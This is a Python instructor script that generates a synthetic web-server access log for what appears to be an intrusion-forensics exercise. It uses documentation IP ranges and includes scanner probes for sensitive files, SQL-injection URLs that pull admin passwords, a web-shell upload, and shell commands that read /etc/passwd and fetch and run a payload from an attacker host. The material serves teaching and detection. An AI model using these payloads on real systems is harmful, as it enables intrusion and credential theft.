#!/usr/bin/env python3
"""Regenerate dist/access.log deterministically (instructor tool, not shipped).

All addresses are documentation ranges (RFC 5737): 192.0.2.0/24,
198.51.100.0/24 and 203.0.113.0/24. They are only text in the log.
Usage: python3 src/gen_access_log.py > dist/access.log
"""
import random
from datetime import datetime, timedelta, timezone

rnd = random.Random(20250314)
TZ = timezone(timedelta(hours=7))  # WIB
start = datetime(2025, 3, 14, 6, 0, 0, tzinfo=TZ)
end = start + timedelta(hours=10)

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
]
PAGES = ["/", "/index.php", "/news/", "/news/banjir-jakarta.html", "/news/pemilu-2024.html",
         "/products.php?id=1", "/products.php?id=2", "/products.php?id=7", "/contact.php",
         "/about.html", "/layanan/pengaduan.php", "/search.php?q=paspor", "/search.php?q=ktp+elektronik"]
ASSETS = ["/assets/css/site.css", "/assets/js/app.js", "/assets/img/logo.png", "/favicon.ico"]

users = [f"198.51.100.{n}" for n in rnd.sample(range(2, 250), 28)] + \
        [f"192.0.2.{n}" for n in rnd.sample(range(2, 250), 14)]
events = []

def add(t, ip, method, path, status, size, ua, ref="-"):
    events.append((t, ip, method, path, status, size, ref, ua))

# Normal browsing sessions.
for _ in range(420):
    ip = rnd.choice(users)
    ua = UAS[sum(map(ord, ip)) % len(UAS)]
    t = start + timedelta(seconds=rnd.randint(0, int((end - start).total_seconds())))
    for _ in range(rnd.randint(1, 5)):
        page = rnd.choice(PAGES)
        add(t, ip, "GET", page, 200, rnd.randint(2400, 18000), ua, "https://portal.example.go.id/")
        for a in rnd.sample(ASSETS, rnd.randint(0, 3)):
            add(t + timedelta(milliseconds=300), ip, "GET", a, rnd.choice([200, 200, 304]), rnd.randint(300, 9000), ua)
        if rnd.random() < 0.08:
            add(t + timedelta(seconds=4), ip, "POST", "/login.php", 302, 0, ua)
        t += timedelta(seconds=rnd.randint(5, 90))

# Decoy 1: a noisy automated scanner, everything 404/403, never gets in.
t = start + timedelta(hours=2, minutes=11)
for p in ["/.env", "/wp-login.php", "/phpmyadmin/", "/.git/config", "/server-status", "/admin/", "/backup.zip",
          "/cgi-bin/test.cgi", "/config.php.bak", "/shell.php", "/uploads/shell.php?cmd=id", "/.DS_Store",
          "/xmlrpc.php", "/actuator/env", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"] * 3:
    add(t, "203.0.113.10", "GET", p, 403 if p in ("/server-status", "/admin/") else 404, 196,
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)")
    t += timedelta(seconds=rnd.randint(1, 3))

# Decoy 2: another outsider guessing a webshell name that does not exist.
t = start + timedelta(hours=7, minutes=2)
for p in ["/uploads/", "/uploads/avatar.php?cmd=whoami", "/uploads/cmd.php?cmd=id", "/uploads/up.php"]:
    add(t, "203.0.113.200", "GET", p, 404, 196, "curl/8.5.0")
    t += timedelta(seconds=7)

# The real intrusion from 203.0.113.77.
A, UA = "203.0.113.77", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"
t = start + timedelta(hours=4, minutes=37, seconds=12)
for p in ["/robots.txt", "/admin/", "/admin/login.php", "/uploads/", "/backup/", "/includes/", "/api/", "/old/"]:
    add(t, A, "GET", p, {"/robots.txt": 200, "/admin/": 302, "/admin/login.php": 200, "/uploads/": 403}.get(p, 404),
        rnd.randint(180, 2200), UA)
    t += timedelta(seconds=rnd.randint(1, 4))
for p, st in [("/products.php?id=7'", 500), ("/products.php?id=7%27%20OR%20%271%27=%271", 200),
              ("/products.php?id=-1%20UNION%20SELECT%201,2,3,4--", 500),
              ("/products.php?id=-1%20UNION%20SELECT%201,2,3--", 200),
              ("/products.php?id=-1%20UNION%20SELECT%201,username,password%20FROM%20admins--", 200)]:
    add(t, A, "GET", p, st, rnd.randint(900, 5200), UA)
    t += timedelta(seconds=rnd.randint(20, 60))
add(t, A, "POST", "/admin/login.php", 302, 0, UA, "https://portal.example.go.id/admin/login.php"); t += timedelta(seconds=2)
add(t, A, "GET", "/admin/index.php", 200, 8812, UA); t += timedelta(seconds=30)
add(t, A, "GET", "/admin/media.php", 200, 4410, UA); t += timedelta(seconds=25)
add(t, A, "POST", "/admin/media.php?action=upload", 200, 318, UA, "https://portal.example.go.id/admin/media.php"); t += timedelta(seconds=9)
for c in ["id", "uname+-a", "cat+/etc/passwd", "ls+-la+/var/www/html", "cat+/var/www/html/config.php",
          "wget+-q+-O+/tmp/.x+http://203.0.113.77:8000/x", "chmod+%2Bx+/tmp/.x", "/tmp/.x"]:
    add(t, A, "GET", f"/uploads/avatar_2931.php?cmd={c}", 200, rnd.randint(40, 2600), UA)
    t += timedelta(seconds=rnd.randint(6, 40))

events.sort(key=lambda e: e[0])
for (t, ip, m, p, st, size, ref, ua) in events:
    print(f'{ip} - - [{t.strftime("%d/%b/%Y:%H:%M:%S %z")}] "{m} {p} HTTP/1.1" {st} {size} "{ref}" "{ua}"')
